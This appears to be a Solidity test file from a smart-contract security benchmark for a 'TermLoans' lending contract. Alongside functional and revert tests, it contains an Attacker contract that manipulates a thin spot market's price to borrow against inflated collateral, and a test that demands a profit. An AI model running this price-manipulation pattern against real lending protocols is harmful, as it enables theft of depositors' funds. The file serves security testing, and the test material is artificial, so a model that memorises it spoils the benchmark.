// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./TermLoans.sol";
import {Ownable} from "@openzeppelin/contracts@5.4.0/access/Ownable.sol";

// assay-canary-48a36e66-e75e-4516-9c20-be1099b7d0a0

interface Vm {
    function warp(uint256 time) external;
    function prank(address who) external;
    function startPrank(address who) external;
    function stopPrank() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Collateral is ERC20 {
    constructor() ERC20("Collateral", "COL") {
        _mint(msg.sender, 1e27);
    }
}

contract Cash is ERC20 {
    constructor() ERC20("Cash", "CASH") {
        _mint(msg.sender, 1e27);
    }
}

/// A thin market: constant product, no fee.
contract SpotMarket is ISpotMarket {
    IERC20 public immutable collateral;
    IERC20 public immutable cash;

    constructor(IERC20 collateral_, IERC20 cash_) {
        (collateral, cash) = (collateral_, cash_);
    }

    function reserves() public view override returns (uint256, uint256) {
        return (collateral.balanceOf(address(this)), cash.balanceOf(address(this)));
    }

    function swap(bool cashIn, uint256 amount) external returns (uint256 got) {
        (IERC20 given, IERC20 taken) = cashIn ? (cash, collateral) : (collateral, cash);
        got = taken.balanceOf(address(this)) * amount / (given.balanceOf(address(this)) + amount);
        given.transferFrom(msg.sender, address(this), amount);
        taken.transfer(msg.sender, got);
    }
}

contract Attacker {
    TermLoans internal loans;
    SpotMarket internal market;
    IERC20 internal collateral;
    IERC20 internal cash;

    constructor(TermLoans loans_, SpotMarket market_, IERC20 collateral_, IERC20 cash_) {
        (loans, market, collateral, cash) = (loans_, market_, collateral_, cash_);
        collateral.approve(address(loans), type(uint256).max);
        cash.approve(address(loans), type(uint256).max);
        collateral.approve(address(market), type(uint256).max);
        cash.approve(address(market), type(uint256).max);
    }

    function _try(bytes memory data) internal returns (bool ok) {
        (ok, ) = address(loans).call(data);
    }

    function _borrow(uint128 amount) internal {
        _try(abi.encodeCall(loans.borrow, (amount, 0, type(uint256).max)));
    }

    function run() external {
        // raise the spot price, borrow, bring it down again
        uint256 bought = market.swap(true, cash.balanceOf(address(this)) * 9 / 10);
        _borrow(40 ether);
        _borrow(type(uint128).max);
        market.swap(false, bought);
        // press the spot price, borrow and repay, let it rise again
        bought = market.swap(false, collateral.balanceOf(address(this)) / 2);
        uint256 id = loans.loanCount();
        _borrow(10 ether);
        _try(abi.encodeCall(loans.extend, (id, type(uint256).max)));
        _try(abi.encodeCall(loans.repay, (id, 1 ether)));
        _try(abi.encodeCall(loans.repay, (id, type(uint256).max)));
        _try(abi.encodeCall(loans.repay, (id, type(uint256).max)));
        market.swap(true, bought);
        // tokens given away, so that the lender or the market looks richer
        collateral.transfer(address(loans), 1 ether);
        cash.transfer(address(market), 10 ether);
        _borrow(5 ether);
        // a loan passed on and its collateral asked for
        id = loans.loanCount();
        _borrow(1 ether);
        _try(abi.encodeCall(loans.transferLoan, (id, address(loans))));
        _try(abi.encodeCall(loans.repay, (id, type(uint256).max)));
        // what is not ours to do
        MedianOracle oracle = loans.oracle();
        (bool ok, ) = address(oracle).call(abi.encodeCall(oracle.report, (1_000_000 ether)));
        (ok, ) = address(oracle).call(abi.encodeCall(oracle.setReporter, (0, address(this))));
        _try(abi.encodeCall(loans.repay, (0, type(uint256).max)));
        _try(abi.encodeCall(loans.extend, (0, type(uint256).max)));
        _try(abi.encodeCall(loans.transferLoan, (0, address(this))));
        _try(abi.encodeCall(loans.claim, (0)));
        _try(abi.encodeCall(loans.withdraw, (cash, 1 ether)));
        _try(abi.encodeCall(loans.withdraw, (collateral, 1 ether)));
        _try(abi.encodeCall(loans.setRates, (7_000, 0)));
        _try(abi.encodeCall(loans.setTreasury, (address(this))));
        _try(abi.encodeCall(loans.transferOwnership, (address(this))));
        _try(abi.encodeCall(loans.acceptOwnership, ()));
        _borrow(0);
        _try(abi.encodeCall(loans.repay, (loans.loanCount(), 0)));
    }

    /// Prices two days old, then a term that is over.
    function later() external {
        uint256 bought = market.swap(true, cash.balanceOf(address(this)) / 2);
        _borrow(5 ether);
        market.swap(false, bought);
        _try(abi.encodeCall(loans.repay, (0, type(uint256).max)));
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant OLA = address(0x01A);
    address private constant PIA = address(0x91A);
    address private constant TREASURY = address(0x7EA);

    Collateral private goods;
    Cash private dollars;
    MedianOracle private oracle;
    SpotMarket private market;
    TermLoans private loans;
    Attacker private mallory;

    function setUp() public {
        vm.warp(1_764_000_000);
        goods = new Collateral();
        dollars = new Cash();
        market = new SpotMarket(goods, dollars);
        goods.transfer(address(market), 1000 ether);
        dollars.transfer(address(market), 10_000 ether);
        oracle = new MedianOracle([address(0xA1), address(0xA2), address(0xA3)], address(this));
        loans = new TermLoans(goods, dollars, oracle, market, TREASURY, 5_000 ether, 15_000 ether);
        dollars.transfer(address(loans), 20_000 ether);
        _report(10 ether, 10.2 ether, 9.9 ether);
        mallory = new Attacker(loans, market, goods, dollars);
        goods.transfer(address(mallory), 100 ether);
        dollars.transfer(address(mallory), 30_000 ether);
        goods.transfer(OLA, 2_000 ether);
        dollars.transfer(OLA, 50 ether);
        vm.startPrank(OLA);
        goods.approve(address(loans), type(uint256).max);
        dollars.approve(address(loans), type(uint256).max);
        loans.borrow(20 ether, 99 ether, 102 ether);
        vm.stopPrank();
    }

    function _report(uint128 a, uint128 b, uint128 c) private {
        vm.prank(address(0xA1));
        oracle.report(a);
        vm.prank(address(0xA2));
        oracle.report(b);
        vm.prank(address(0xA3));
        oracle.report(c);
    }

    function test_Regular() public {
        TermLoans.Loan memory loan = loans.loanAt(0);
        require(dollars.balanceOf(OLA) == 150 ether && loan.due == 102 ether, "half of two hundred");
        _report(11 ether, 30 ether, 10 ether);
        require(oracle.price() == 11 ether && loans.spotPrice() == 10 ether, "the middle one");
        _report(9 ether, 8 ether, 12 ether);
        require(oracle.price() == 9 ether, "the middle one");
        _report(12 ether, 10 ether, 9 ether);
        require(oracle.price() == 10 ether, "the middle one");
        vm.warp(block.timestamp + 50 days);
        vm.startPrank(OLA);
        require(loans.extend(0, 2.04 ether) == 2.04 ether && dollars.balanceOf(OLA) == 147.96 ether, "fee");
        vm.warp(block.timestamp + 50 days);
        require(!loans.isOverdue(0), "extended");
        require(loans.repay(0, 52 ether) == 52 ether && goods.balanceOf(OLA) == 1_980 ether, "a part");
        loans.transferLoan(0, PIA);
        dollars.transfer(PIA, 60 ether);
        vm.stopPrank();
        vm.startPrank(PIA);
        dollars.approve(address(loans), type(uint256).max);
        require(loans.repay(0, 100 ether) == 50 ether, "the rest");
        vm.stopPrank();
        require(goods.balanceOf(PIA) == 20 ether && dollars.balanceOf(PIA) == 10 ether, "repaid");
        require(loans.totalDue() == 0 && loans.totalCollateral() == 0, "nothing is due");

        loans.setRates(6_000, 100);
        loans.setLimits(4_000 ether, 10_000 ether);
        loans.setTreasury(address(0x7EB));
        loans.pause();
        loans.unpause();
        oracle.setReporter(1, address(0xA4));
        require(oracle.reportAt(1).updatedAt == 0, "a free seat");
        vm.prank(address(0xA4));
        oracle.report(10 ether);
        vm.prank(address(0xA1));
        oracle.report(10 ether);
        vm.prank(address(0xA3));
        oracle.report(10 ether);
        vm.prank(OLA);
        uint256 id = loans.borrow(10 ether, 60 ether, 60.6 ether);
        vm.warp(block.timestamp + 61 days);
        require(loans.isOverdue(id), "overdue");
        loans.claim(id);
        require(goods.balanceOf(address(0x7EB)) == 10 ether && loans.totalDue() == 0, "claimed");
        goods.transfer(address(loans), 1 ether);
        loans.withdraw(goods, 1 ether);
        loans.withdraw(dollars, 19_000 ether);
        require(dollars.balanceOf(address(0x7EB)) == 19_000 ether, "withdrawn");
        loans.transferOwnership(OLA);
        vm.startPrank(OLA);
        loans.acceptOwnership();
        loans.renounceOwnership();
        vm.stopPrank();
        oracle.transferOwnership(OLA);
        vm.startPrank(OLA);
        oracle.acceptOwnership();
        oracle.renounceOwnership();
        vm.stopPrank();
    }

    function coin() public view returns (address) {
        return address(dollars);
    }

    // What is refused, each from the state after setUp().

    function test_RefusesSetups() public {
        vm.expectRevert(abi.encodeWithSelector(TermLoans.TokensNotValid.selector, goods, goods));
        new TermLoans(goods, goods, oracle, market, TREASURY, 1, 1);
        vm.expectRevert(abi.encodeWithSelector(TermLoans.SourcesNotValid.selector, address(0), market));
        new TermLoans(goods, dollars, MedianOracle(address(0)), market, TREASURY, 1, 1);
        vm.expectRevert(abi.encodeWithSelector(TermLoans.SourcesNotValid.selector, oracle, address(0)));
        new TermLoans(goods, dollars, oracle, ISpotMarket(address(0)), TREASURY, 1, 1);
        vm.expectRevert(abi.encodeWithSelector(LoanTerms.AddressNotValid.selector, address(0)));
        new TermLoans(goods, dollars, oracle, market, address(0), 1, 1);
        vm.expectRevert(abi.encodeWithSelector(LoanTerms.LimitsOutOfOrder.selector, 2, 1));
        new TermLoans(goods, dollars, oracle, market, TREASURY, 2, 1);
        vm.expectRevert(abi.encodeWithSelector(MedianOracle.ReporterNotValid.selector, OLA));
        new MedianOracle([OLA, OLA, PIA], address(this));
    }

    function test_RefusesTerms() public {
        vm.expectRevert(abi.encodeWithSelector(LoanTerms.RateOutOfBounds.selector, 7_001, 7_000));
        loans.setRates(7_001, 0);
        vm.expectRevert(abi.encodeWithSelector(LoanTerms.RateOutOfBounds.selector, 501, 500));
        loans.setRates(7_000, 501);
        vm.expectRevert(abi.encodeWithSelector(LoanTerms.LimitsOutOfOrder.selector, 2, 1));
        loans.setLimits(2, 1);
        vm.expectRevert(abi.encodeWithSelector(LoanTerms.AddressNotValid.selector, address(loans)));
        loans.setTreasury(address(loans));
        vm.expectRevert(abi.encodeWithSelector(MedianOracle.ReporterNotValid.selector, address(0)));
        oracle.setReporter(1, address(0));
    }

    /// A loan is its borrower's, and the rest the owner's.
    function test_RefusesStrangers() public {
        bytes memory not = abi.encodeWithSelector(TermLoans.NotTheBorrower.selector, 0, address(this));
        dollars.approve(address(loans), type(uint256).max);
        vm.expectRevert(not);
        loans.repay(0, 1);
        vm.expectRevert(not);
        loans.extend(0, 10 ether);
        vm.expectRevert(not);
        loans.transferLoan(0, address(this));
        vm.warp(block.timestamp + 61 days);
        bytes memory owner = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, OLA);
        vm.startPrank(OLA);
        vm.expectRevert(owner);
        loans.claim(0);
        vm.expectRevert(owner);
        loans.withdraw(dollars, 1);
        vm.expectRevert(owner);
        loans.pause();
        vm.expectRevert(owner);
        loans.unpause();
        vm.expectRevert(owner);
        loans.setRates(0, 0);
        vm.expectRevert(owner);
        loans.setLimits(0, 0);
        vm.expectRevert(owner);
        loans.setTreasury(OLA);
        vm.expectRevert(owner);
        loans.transferOwnership(OLA);
        vm.expectRevert(owner);
        oracle.setReporter(0, OLA);
        vm.expectRevert(abi.encodeWithSelector(MedianOracle.NotAReporter.selector, OLA));
        oracle.report(1);
        vm.stopPrank();
        vm.prank(address(0xA1));
        vm.expectRevert(abi.encodeWithSelector(MedianOracle.PriceIsZero.selector, address(0xA1)));
        oracle.report(0);
    }

    function test_RefusesLoansWhilePaused() public {
        loans.pause();
        vm.startPrank(OLA);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        loans.borrow(1 ether, 0, 10 ether);
        loans.extend(0, 10 ether);
        loans.repay(0, 200 ether);
        vm.stopPrank();
    }

    function test_RefusesAmounts() public {
        vm.startPrank(OLA);
        vm.expectRevert(abi.encodeWithSelector(TermLoans.LoanTooSmall.selector, 0, 0));
        loans.borrow(0, 0, 0);
        vm.expectRevert(abi.encodeWithSelector(TermLoans.LoanTooSmall.selector, 50 ether, 50 ether + 1));
        loans.borrow(10 ether, 50 ether + 1, 60 ether);
        vm.expectRevert(abi.encodeWithSelector(TermLoans.LoanTooLarge.selector, 5_005 ether, 5_000 ether));
        loans.borrow(1_001 ether, 0, type(uint256).max);
        vm.expectRevert(abi.encodeWithSelector(TermLoans.CostsTooMuch.selector, 51 ether, 51 ether - 1));
        loans.borrow(10 ether, 0, 51 ether - 1);
        loans.borrow(900 ether, 4_500 ether, 4_590 ether);
        loans.borrow(900 ether, 4_500 ether, 4_590 ether);
        vm.stopPrank();
        loans.setLimits(2_000 ether, 10_000 ether);
        vm.startPrank(OLA);
        vm.expectRevert(abi.encodeWithSelector(TermLoans.CapExceeded.selector, 10_302 ether, 10_000 ether));
        loans.borrow(200 ether, 0, type(uint256).max);
        vm.expectRevert(abi.encodeWithSelector(LoanTerms.AddressNotValid.selector, address(0)));
        loans.transferLoan(0, address(0));
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(TermLoans.NotAvailable.selector, 0, 1));
        loans.withdraw(goods, 1);
    }

    function test_RefusesExtensions() public {
        vm.startPrank(OLA);
        vm.expectRevert(abi.encodeWithSelector(TermLoans.CostsTooMuch.selector, 2.04 ether, 2 ether));
        loans.extend(0, 2 ether);
        for (uint256 i = 0; i < 3; ++i) loans.extend(0, 3 ether);
        vm.expectRevert(abi.encodeWithSelector(TermLoans.NoExtensionLeft.selector, 0));
        loans.extend(0, 3 ether);
        vm.stopPrank();
    }

    /// Terms end, and what is gone cannot be claimed again.
    function test_RefusesAfterTheTerm() public {
        uint256 dueAt = loans.loanAt(0).dueAt;
        vm.warp(dueAt);
        vm.expectRevert(abi.encodeWithSelector(TermLoans.NotOverdue.selector, 0, dueAt));
        loans.claim(0);
        vm.warp(dueAt + 1);
        bytes memory overdue = abi.encodeWithSelector(TermLoans.Overdue.selector, 0, dueAt);
        vm.startPrank(OLA);
        vm.expectRevert(overdue);
        loans.extend(0, 10 ether);
        vm.expectRevert(overdue);
        loans.repay(0, 1);
        vm.expectRevert(overdue);
        loans.transferLoan(0, PIA);
        vm.stopPrank();
        loans.claim(0);
        vm.expectRevert(abi.encodeWithSelector(TermLoans.NotOverdue.selector, 0, 0));
        loans.claim(0);
    }

    function test_RefusesOldPrices() public {
        uint256 reported = oracle.reportAt(0).updatedAt;
        vm.warp(reported + 2 days + 1);
        vm.prank(OLA);
        vm.expectRevert(abi.encodeWithSelector(MedianOracle.ReportTooOld.selector, 0, reported));
        loans.borrow(1 ether, 0, 10 ether);
    }

    function exploit() public {
        mallory.run();
        vm.warp(block.timestamp + 3 days);
        mallory.later();
        vm.warp(block.timestamp + 60 days);
        mallory.later();
    }

    // A hundred units of collateral are worth a thousand.
    function test_Exploit() public {
        uint256 before = dollars.balanceOf(address(mallory));
        exploit();
        require(dollars.balanceOf(address(mallory)) >= before + 1500 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(loans);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
